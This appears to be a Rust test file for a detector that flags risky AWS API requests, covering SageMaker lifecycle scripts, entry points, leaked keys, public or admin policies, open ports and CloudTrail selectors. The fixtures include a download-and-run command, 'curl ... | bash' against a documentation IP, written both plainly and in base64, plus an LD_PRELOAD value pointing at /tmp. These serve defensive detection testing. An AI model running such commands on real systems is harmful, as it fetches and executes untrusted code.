//! Fields about scripts, commands, policies and settings inside a request.

use rempart_sigma::{Derive, Derived};
use rempart_trail::record::Record;
use serde_json::{Value, json};

use super::{OWN, asking, call, check, check_requests, derive};
use crate::derive::{Deriver, KnownAccounts};

#[test]
fn request_state() {
    let without = |source: &str, name: &str| json!({"eventSource": source, "eventName": name});
    let mut refused = call("sagemaker.amazonaws.com", "CreateTrainingJob", Value::Null);
    refused["errorCode"] = json!("ValidationException");
    check(
        "rempart.request.state",
        &[
            (asking(json!({"a": 1})), json!("present")),
            (asking(json!({})), json!("empty")),
            (asking(json!("text")), json!("present")),
            (asking(Value::Null), json!("omitted")),
            (refused, json!("null")),
            (
                call("sagemaker.amazonaws.com", "ListModels", Value::Null),
                json!("null"),
            ),
            (
                without("sagemaker.amazonaws.com", "CreateModel"),
                json!("omitted"),
            ),
            (
                without("sagemaker.amazonaws.com", "ListModels"),
                json!("absent"),
            ),
            (without("nobody.example", "Nothing"), json!("absent")),
        ],
    );
}

/// `curl -s http://198.51.100.9/x | bash` and `pip install pandas`, in base64.
const HOSTILE: &str = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBiYXNo";
const TAME: &str = "cGlwIGluc3RhbGwgcGFuZGFz";

#[test]
fn script_fields() {
    let create = |content: &str| {
        call(
            "sagemaker.amazonaws.com",
            "CreateStudioLifecycleConfig",
            json!({"studioLifecycleConfigContent": content}),
        )
    };
    let notebook = call(
        "sagemaker.amazonaws.com",
        "UpdateNotebookInstanceLifecycleConfig",
        json!({"notebookInstanceLifecycleConfigName": "x", "onCreate": [{"content": TAME}], "onStart": [{"content": HOSTILE}]}),
    );
    let lost = call(
        "sagemaker.amazonaws.com",
        "CreateStudioLifecycleConfig",
        Value::Null,
    );
    let elsewhere = call(
        "other.amazonaws.com",
        "CreateStudioLifecycleConfig",
        json!({"studioLifecycleConfigContent": HOSTILE}),
    );
    check(
        "rempart.script.state",
        &[
            (create(HOSTILE), json!("decoded")),
            (create("%%%"), json!("undecodable")),
            (lost.clone(), json!("omitted")),
            (elsewhere.clone(), Value::Null),
            (
                asking(json!({"studioLifecycleConfigContent": HOSTILE})),
                Value::Null,
            ),
            (create(TAME), json!("decoded")),
        ],
    );
    check(
        "rempart.script.verdict",
        &[
            (create(TAME), json!("clean")),
            (lost, json!("unknown")),
            (create("%%%"), json!("unknown")),
            (elsewhere, Value::Null),
        ],
    );
    assert_ne!(derive(&notebook, "rempart.script.verdict"), json!("clean"));
    let has = |record: &Value, field: &str, text: &str| {
        let found = derive(record, field);
        let texts = found.as_array().unwrap().clone();
        assert!(
            texts.iter().any(|one| one.as_str().unwrap().contains(text)),
            "{field}: {found}"
        );
    };
    has(&notebook, "rempart.script.classes", "download-and-run");
    has(&notebook, "rempart.script.indicators", "line 1");
    assert!(derive(&create(HOSTILE), "rempart.script.level").is_string());
    assert_eq!(derive(&create(TAME), "rempart.script.level"), Value::Null);
}

#[test]
fn a_deriver_tells_scripts_apart() {
    let accounts = KnownAccounts::default();
    let deriver = Deriver::new(&accounts);
    let texts = [HOSTILE, TAME, HOSTILE].map(|content| {
        call(
            "sagemaker.amazonaws.com",
            "CreateStudioLifecycleConfig",
            json!({"studioLifecycleConfigContent": content}),
        )
        .to_string()
    });
    let clean = texts.each_ref().map(|text| {
        let record = Record::parse(text.as_bytes()).unwrap();
        deriver.derive(&record, "rempart.script.verdict") == Derived::Text("clean".to_owned())
    });
    assert_eq!(clean, [false, true, false]);
}

#[test]
fn entry_points() {
    let command = "curl -s http://198.51.100.9/x | bash";
    let words = json!({"algorithmSpecification": {"containerEntrypoint": ["bash", "-c", command]}});
    let environment = json!({"environment": {"RUN": command}});
    let pipeline = json!({"pipelineDefinition": format!("{{\"Steps\": \"{command}\"}}")});
    for request in [words, environment, pipeline] {
        let record = asking(request);
        let classes = derive(&record, "rempart.entrypoint.classes");
        assert!(
            classes
                .as_array()
                .unwrap()
                .contains(&json!("download-and-run")),
            "{classes}"
        );
        assert!(derive(&record, "rempart.entrypoint.level").is_string());
    }
    let quiet = [
        (
            json!({"containerEntrypoint": ["python3", "train.py"]}),
            Value::Null,
        ),
        (json!({"containerEntrypoint": {"a": 1}}), Value::Null),
        (json!({"description": command}), Value::Null),
        (json!([]), Value::Null),
        (Value::Null, Value::Null),
    ];
    check_requests("rempart.entrypoint.classes", &quiet);
    check_requests("rempart.entrypoint.level", &quiet);
}

#[test]
fn secrets() {
    // Put together here, so that scanners of repositories do not take it for a key.
    let key = format!("{}{}", "AKIA", "QWERTYUIOPASDFGH");
    check_requests(
        "rempart.secret.kinds",
        &[
            (
                json!({"environment": {"A": key}}),
                json!(["aws-access-key"]),
            ),
            (json!({"environment": {"A": "plain"}}), Value::Null),
            (json!(["x", 1, null, {"a": []}]), Value::Null),
            (Value::Null, Value::Null),
        ],
    );
}

#[test]
fn risky_environment() {
    check_requests(
        "rempart.environment.risky",
        &[
            (
                json!({"environment": {"LD_PRELOAD": "/tmp/x.so", "pip_index_url": "https://x.example/"}}),
                json!(["LD_PRELOAD", "PIP_INDEX_URL"]),
            ),
            (
                json!({"environment": {"LD_LIBRARY_PATH": "/opt/conda/lib:/usr/lib", "PIP_INDEX_URL": "https://pypi.org/simple"}}),
                Value::Null,
            ),
            (json!({"environment": "LD_PRELOAD=/tmp/x"}), Value::Null),
            (json!({"hyperParameters": {"LD_PRELOAD": "x"}}), Value::Null),
        ],
    );
}

#[test]
fn policies() {
    let policy = |statement: Value| json!({"policy": json!({"Statement": statement}).to_string()});
    let open = json!([{"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "x"}]);
    let limited = json!({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "a", "Resource": "x",
        "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-1"}}});
    let denied = json!({"Effect": "Deny", "Principal": "*", "Action": "*", "Resource": "*"});
    let admin = json!({"Effect": "Allow", "Action": ["*"], "Resource": "*"});
    let foreign = json!({"Effect": "Allow", "Principal": {"AWS": ["999988887777", "arn:aws:iam::888877776666:root", OWN]}, "Action": "a", "Resource": "b"});
    check_requests(
        "rempart.policy.public",
        &[
            (policy(open.clone()), json!(true)),
            (json!({"bucketPolicy": {"Statement": open}}), json!(true)),
            (policy(limited), json!(false)),
            (policy(denied.clone()), json!(false)),
            (
                json!({"policyDocument": "%7B%22Statement%22%3A%5B%7B%22Effect%22%3A%22Allow%22%2C%22Principal%22%3A%22%2A%22%7D%5D%7D"}),
                json!(true),
            ),
            (json!({"policy": "{\"Statement\": 5}"}), json!(false)),
            (json!({"policy": "{\"Statement\": "}), Value::Null),
            (json!({"policy": "%7B%2"}), Value::Null),
            (json!({"name": "x"}), Value::Null),
        ],
    );
    check_requests(
        "rempart.policy.foreign",
        &[
            (
                policy(foreign),
                json!(["999988887777", "arn:aws:iam::888877776666:root"]),
            ),
            (
                json!({"keyId": "k", "granteePrincipal": "arn:aws:iam::999988887777:root"}),
                json!(["arn:aws:iam::999988887777:root"]),
            ),
            (policy(denied.clone()), Value::Null),
        ],
    );
    check_requests(
        "rempart.policy.admin",
        &[
            (policy(admin), json!(true)),
            (policy(denied), json!(false)),
            (json!({}), Value::Null),
        ],
    );
}

#[test]
fn open_ports() {
    let change = |request: Value| {
        call(
            "ec2.amazonaws.com",
            "AuthorizeSecurityGroupIngress",
            request,
        )
    };
    check(
        "rempart.network.open_ports",
        &[
            (
                change(
                    json!({"ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                    "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}),
                ),
                json!(["tcp/22-22"]),
            ),
            (
                change(
                    json!({"ipPermissions": {"items": [{"ipProtocol": "-1", "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}}]}}),
                ),
                json!(["all/all"]),
            ),
            (
                change(
                    json!({"ModifySecurityGroupRulesRequest": {"SecurityGroupRule": {"SecurityGroupRule":
                    {"IpProtocol": "tcp", "FromPort": 1, "ToPort": 9, "CidrIpv4": "0.0.0.0/1"}}}}),
                ),
                json!(["tcp/1-9"]),
            ),
            (change(json!({"cidrIp": "10.0.0.0/8"})), Value::Null),
            (
                change(json!({"ipPermissions": [1, "x", null]})),
                Value::Null,
            ),
            (
                change(json!({"ipPermissions": {"items": {"items": []}}})),
                Value::Null,
            ),
            (json!({}), Value::Null),
        ],
    );
}

#[test]
fn claimed_profile() {
    const TAG: &str = "sagemaker:user-profile-arn";
    check_requests(
        "rempart.tags.user_profile",
        &[
            (
                json!({"tags": [{"key": "a"}, {"key": TAG, "value": "arn:x"}]}),
                json!("arn:x"),
            ),
            (json!({"tags": {TAG: "arn:x"}}), json!("arn:x")),
            (json!({"tags": [{"key": TAG, "value": 5}]}), Value::Null),
            (json!({"tags": "x"}), Value::Null),
        ],
    );
}

#[test]
fn selectors() {
    let put = |request: Value| call("cloudtrail.amazonaws.com", "PutEventSelectors", request);
    let advanced = put(json!({"advancedEventSelectors": [{"fieldSelectors": [
        {"field": "resources.type", "equals": ["AWS::S3::Object"]},
        {"field": "userIdentity.arn", "notEquals": ["arn:x"]},
        {"field": 5},
        7,
    ]}]}));
    let basic = put(json!({"eventSelectors": [{
        "includeManagementEvents": false,
        "readWriteType": "ReadOnly",
        "excludeManagementEventSources": ["kms.amazonaws.com"],
        "dataResources": [{"type": "AWS::Lambda::Function"}],
    }]}));
    let nonsense = put(json!({"advancedEventSelectors": "x", "eventSelectors": [[1], null]}));
    check(
        "rempart.selectors.data_types",
        &[
            (advanced.clone(), json!(["AWS::S3::Object"])),
            (basic.clone(), json!(["AWS::Lambda::Function"])),
            (nonsense.clone(), Value::Null),
        ],
    );
    check(
        "rempart.selectors.excludes",
        &[
            (advanced, json!(["userIdentity.arn"])),
            (
                basic,
                json!(["eventSource", "managementEvents", "writeEvents"]),
            ),
            (nonsense, Value::Null),
        ],
    );
}

#[test]
fn quota() {
    let ask = |source: &str, name: &str| {
        let mut record = call(
            source,
            "RequestServiceQuotaIncrease",
            json!({"quotaCode": "L-1"}),
        );
        record["responseElements"] = json!({"requestedQuota": {"quotaName": name}});
        record
    };
    const SOURCE: &str = "servicequotas.amazonaws.com";
    check(
        "rempart.quota.accelerated",
        &[
            (
                ask(SOURCE, "ml.p5.48xlarge for training job usage"),
                json!(true),
            ),
            (ask(SOURCE, "Running On-Demand P instances"), json!(true)),
            (ask(SOURCE, "ml.m5.large for endpoint usage"), json!(false)),
            (ask("other.amazonaws.com", "ml.p5.48xlarge"), Value::Null),
            (call(SOURCE, "X", json!({"quotaCode": "L-1"})), Value::Null),
        ],
    );
}
